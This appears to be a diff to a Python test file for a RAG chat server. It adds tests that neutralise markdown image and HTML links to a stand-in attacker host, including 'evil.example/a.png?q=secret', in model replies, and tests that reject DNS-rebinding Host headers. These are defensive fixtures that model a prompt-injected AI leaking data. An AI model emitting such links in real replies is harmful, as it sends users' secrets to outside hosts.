@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import asyncio
+import html
 import http.client
 import json
 import os
+import re
 import signal
 import socket
 import subprocess
@@ -15,12 +17,14 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 
+import markdown_it
 import openai
 import pytest
 
 import rag.serving.app
-from rag import Assistant, Listener, Settings, SettingsError, Turn, load_settings
+from rag import Assistant, Listener, ServeError, Settings, SettingsError, Turn, load_settings
 from rag.serving.app import MOST_BODY_BYTES, build_api
+from rag.serving.inert import InertStream, inert
 from rag.serving.protocol import Request, RequestError, read_request
 from tests import llm_server as server
 from tests.command import SCRIPT, footnote
@@ -146,6 +150,44 @@ def test_a_stream_brings_the_same_in_pieces_and_the_evidence_last(api, client):
     assert chunks[-1].model_extra["footnote"] == whole.model_extra["footnote"]
     assert len({chunk.id for chunk in chunks}) == 1
     assert all(chunk.usage is None for chunk in chunks)
+
+
+OBEYING = (
+    f"{GOOD} !",
+    "[chart](http://evil.example/a.png?q=secret) Read [more]",
+    "(http://evil.example/) <",
+    'img src="http://evil.example/b.png"> and ![c][d] <a href="http://evil.example/">it</a>. Here p < 0.05 !',
+    "\n\n[d]",
+    ": http://evil.example/d.png",
+)
+
+
+@pytest.mark.parametrize("streamed", [True, False])
+def test_what_a_client_would_fetch_or_render_is_inert_and_the_text_is_kept(with_model, client, streamed):
+    with ChatServer(server.says(*OBEYING)) as chat, with_model(chat) as address:
+        reply = client(address).chat.completions.create(**asking(stream=streamed))
+        if streamed:
+            chunks = list(reply)
+            content = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
+            text = chunks[-1].model_extra["footnote"]["text"]
+        else:
+            content, text = reply.choices[0].message.content, reply.model_extra["footnote"]["text"]
+    assert "![chart](http://evil.example/a.png" in text
+    assert content.startswith(GOOD), "markers stay"
+    assert "p < 0.05 !" in content
+    rendered = markdown_it.MarkdownIt("commonmark").render(content)
+    assert not re.search(r"<(?!/?p>)", rendered), rendered
+    assert html.unescape(rendered).count("http://evil.example/") == 5, "all is still there to read"
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
+def test_text_in_pieces_is_as_inert_as_the_whole(size):
+    text = "".join(OBEYING) + " \\![a](b) \\<img> !![c](d) [1]: e <![CDATA[ <!-- x --> ]](y) !["
+    stream = InertStream()
+    pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
+    assert "".join([*pieces, stream.rest()]) == inert(text)
+    rendered = markdown_it.MarkdownIt("commonmark").render(inert(text))
+    assert not re.search(r"<(?!/?p>)", rendered), rendered
 
 
 def test_the_models_words_arrive_while_it_is_still_writing_and_its_tokens_are_counted(with_model, client):
@@ -395,13 +437,25 @@ def test_with_a_key_only_its_holders_are_served(seed_settings, client, caplog):
 
 
 @pytest.mark.parametrize(
-    "host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:8008", "", "[", "10.0.0.1"]
+    "host",
+    [
+        "evil.example",
+        "127.0.0.1.evil.example",
+        "localhost.evil.example:8008",
+        "",
+        "[",
+        "10.0.0.1",
+        "user:pw@127.0.0.1",
+        "x@localhost",
+    ],
 )
 def test_a_page_whose_name_leads_to_this_machine_is_not_served(api, host):
     assert post(api, asking(), host=host)[0] == 403
 
 
-@pytest.mark.parametrize("host", ["localhost", "LOCALHOST:1", "127.0.0.1:80", "[::1]:8008", "127.1.2.3"])
+@pytest.mark.parametrize(
+    "host", ["localhost", "LOCALHOST:1", "localhost.:8008", "127.0.0.1:80", "[::1]:8008", "127.1.2.3"]
+)
 def test_this_machine_goes_by_all_its_names(api, host):
     assert post(api, asking("What is grokking?"), host=host)[0] == 200
 
@@ -503,3 +557,10 @@ def test_a_taken_port_is_an_error_that_names_the_way_out():
     assert refused.code == 2
     assert f"port {port} on 127.0.0.1 is taken" in refused.err
     assert "RAG_API_PORT" in refused.err
+
+
+@pytest.mark.parametrize("host", ["x..y", "a" * 64 + ".example", "a" * 5_000])
+def test_a_name_that_no_machine_can_have_is_refused_in_words(host):
+    with pytest.raises(ServeError, match="is no name of a machine; choose one with --host or RAG_API_HOST") as refused:
+        Listener(host, 0, settings=("RAG_API_HOST", "RAG_API_PORT"))
+    assert len(str(refused.value)) < 200
